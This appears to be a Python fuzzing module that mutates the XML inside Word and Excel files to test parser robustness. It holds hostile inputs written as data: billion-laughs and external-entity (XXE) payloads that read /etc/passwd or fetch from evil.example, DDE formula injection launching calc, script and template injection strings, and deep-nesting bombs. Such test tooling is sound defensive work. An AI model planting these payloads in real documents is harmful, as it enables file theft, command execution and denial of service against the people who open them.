"""XML of an office file's part made bad: what stands in it changed, exaggerated, or put in by somebody clever."""

import re
from collections.abc import Callable
from random import Random

_DEEP, _HUGE = 100_000, ("2147483648", "-1", "99999999999999999999", "1e309", "0", "NaN", "", "٣", "1" * 5000)
_MARKS = ("\u202e", "\u200f", "\u2066", "\u200b", "\ufeff", "\u0000", "\x1b", "\ufffe", "\u2028", "🙂", "e\u0301" * 40)
CELLS = (
    "=1+1", '=HYPERLINK("http://evil.example/","x")', "=cmd|'/c calc'!A0", "+1", "-2+3", "@SUM(1)", "\t=1", "'=1",
    "31/02/2020", "99.99.99", "0/0/0", "29.2.1900", "1e400", "9" * 4000, "-1", "2019-20 Q9", "9999-00 Q1", "0000-01 Q1",
    "Theme 99999999999", "T3/0", "<script>alert(1)</script>", "{{7*7}}", "%s%n", "\ud800", "- a\n" * 3000, "(" * 3000,
    "1.1.1." * 3000, "28.3.20 a\n" * 2000, "\t" * 3000, "https://x " * 2000, "March " * 3000, "Q4 2019/20 " * 2000,
)  # fmt: skip


def _replaced_once(random: Random, pattern: bytes, new: Callable[[re.Match[bytes]], bytes], part: bytes) -> bytes:
    """Another text in the place of one that fits a pattern, or of several."""
    found = [*re.finditer(pattern, part, re.DOTALL)]
    for one in sorted(random.sample(found, min(len(found), random.choice((1, 1, 10)))), key=lambda one: -one.start()):
        part = part[: one.start()] + new(one) + part[one.end() :]
    return part


def _numbers(random: Random, part: bytes) -> bytes:
    return _replaced_once(random, rb'"-?\d+"', lambda _: b'"%s"' % random.choice(_HUGE).encode(), part)


def _attributes(random: Random, part: bytes) -> bytes:
    return _replaced_once(random, rb' [\w:]+="[^"]*"', lambda one: b"" if random.random() < 0.5 else one[0] * 2, part)


def _elements(random: Random, part: bytes) -> bytes:
    """One taken out, doubled many times, or with all that is in it put round itself."""
    times = random.choice((0, 2, 2, 300))
    pattern = rb"<(w:tc|w:tr|w:p|w:tbl|w:r|w:style|w:num|c|row|si|Relationship|Override|sheet)\b[^>]*(?<!/)>.*?</\1>"
    return _replaced_once(random, pattern, lambda one: one[0] * times, part)


def _deep(random: Random, part: bytes) -> bytes:
    name, times = random.choice((b"w:tbl", b"w:sdt", b"w:ins", b"x", b"c", b"is")), random.choice((90, 150, _DEEP))
    inside = random.choice((b"", b"<w:tr><w:tc>" if name == b"w:tbl" else b""))
    close = b"</w:tc></w:tr>" if inside else b""
    deep = (b"<%s>" % name + inside) * times + (close + b"</%s>" % name) * times
    return _replaced_once(random, rb"<w:p>|<w:p .*?>|<row.*?>|<si>", lambda one: deep + one[0], part)


def _doctype(random: Random, part: bytes) -> bytes:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    types = (
        b'<!DOCTYPE x [<!ENTITY l0 "ha">%s]>' % laughs,
        b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        b'<!DOCTYPE x [<!ENTITY %% x SYSTEM "http://evil.example/x"> %%x;]>',
        b"",
    )
    entity = random.choice((b"&l9;", b"&x;", b"&#0;", b"&#xD800;", b"&#x110000;", b"&lt;"))
    start = re.match(rb"\s*(<\?xml.*?\?>)?", part)
    assert start
    part = part[: start.end()] + random.choice(types) + part[start.end() :]
    return _replaced_once(random, rb"(?<=>)[^<>]+(?=<)", lambda _: entity, part)


def _other_encoding(random: Random, part: bytes) -> bytes:
    text = part.decode(errors="replace")
    match random.randrange(4):
        case 0:
            return text.encode(random.choice(("utf-16", "utf-32", "utf-16-le", "utf-7", "cp500")), errors="replace")
        case 1:
            names = (b"utf-7", b"cp037", b"rot13", b"x" * 5000, b"utf-16", b"", b"idna")
            return b'<?xml version="1.0" encoding="%s"?>' % random.choice(names) + part.partition(b"?>")[2]
        case 2:
            return b"\xef\xbb\xbf\xef\xbb\xbf" + part
        case _:
            return _replaced_once(random, rb"(?<=>)[^<>]+(?=<)", lambda _: b"\xed\xa0\x80\x00\xff", part)


def _text(random: Random, part: bytes) -> bytes:
    """Marks, formulas, dates and numbers that are none, and far too much, in the place of a text."""

    def new(one: re.Match[bytes]) -> bytes:
        return strange(random, one[0].decode(errors="replace")).encode(errors="surrogatepass")

    return _replaced_once(random, rb"(?<=>)[^<>]+(?=<)", new, part)


def strange(random: Random, text: str) -> str:
    if random.random() < 0.5:
        return random.choice(CELLS).replace("<", "&lt;")
    at = random.randrange(len(text) + 1)
    return text[:at] + random.choice(_MARKS) * random.choice((1, 1, 2000)) + text[at:]


def _word_tricks(random: Random, part: bytes) -> bytes:
    """Cells, lists and styles that claim what cannot be."""
    huge = random.choice(_HUGE[:5]).encode()
    of_cell = b'<w:tcPr><w:gridSpan w:val="%s"/><w:vMerge w:val="%s"/></w:tcPr>' % (huge, random.choice((b"", b"x")))
    of_list = b'<w:pPr><w:numPr><w:ilvl w:val="%s"/><w:numId w:val="%s"/></w:numPr></w:pPr>' % (huge, huge)
    tricks = (
        (rb"<w:tc>", b"<w:tc>" + of_cell),
        (rb"<w:tr>", b'<w:tr><w:trPr><w:gridBefore w:val="%s"/></w:trPr>' % huge),
        (rb"<w:p>", b"<w:p>" + of_list),
        (rb'<w:basedOn w:val="[^"]*"/>', b'<w:basedOn w:val="ListBullet"/>'),
        (rb"<w:name ", b'<w:basedOn w:val="Normal"/><w:name '),
        (rb'w:styleId="[^"]*"', b'w:styleId="Normal"'),
        (rb"<w:abstractNum ", b'<w:abstractNum w:numStyleLink="ListNumber" '),
        (rb'<w:abstractNumId w:val="[^"]*"/>', b'<w:abstractNumId w:val="%s"/>' % huge),
        (rb"<w:t>", b'<w:fldChar w:fldCharType="begin"/><w:instrText>' + b"HYPERLINK " * 500 + b"</w:instrText><w:t>"),
    )
    pattern, new = random.choice(tricks)
    return re.sub(pattern, lambda _: new, part, count=random.choice((1, 0)))


def _sheet_tricks(random: Random, part: bytes) -> bytes:
    """Formulas, errors, cells far away, places and days that are none."""
    place = random.choice((b"XFD1048576", b"ZZZ9", b"A0", b"A99999999", b"", b"a1", b"AA1", "Ａ１".encode()))
    tricks = (
        (rb"<c ", b"<c><f>cmd|' /c calc'!A0</f><v>1</v></c><c "),
        (rb'(?<=<c )r="[^"]*"', b'r="%s"' % place),
        (rb"(?<=<c )", b't="%s" ' % random.choice((b"s", b"b", b"e", b"d", b"str", b"x"))),
        (rb"<v>[^<]*", b"<v>%s" % random.choice((b"1e400", b"-5", b"99999999", b"nan", b"#REF!", b"_xD800_"))),
        (rb'(?<=<row )r="[^"]*"', b'r="%s"' % random.choice(_HUGE[:7]).encode()),
        (rb's="\d+"', b's="%s"' % random.choice((b"-1", b"99999", b"x"))),
        (rb'formatCode="[^"]*"', b'formatCode="%s"' % (random.choice((b"yy", b"[h]", b'\\"', b"0.0")) * 100)),
    )
    pattern, new = random.choice(tricks)
    return re.sub(pattern, lambda _: new, part, count=random.choice((1, 0)))


CHANGES: list[Callable[[Random, bytes], bytes]] = [
    _numbers, _attributes, _elements, _deep, _doctype, _other_encoding, _text, _text, _word_tricks, _word_tricks,
    _sheet_tricks, _sheet_tricks,
]  # fmt: skip
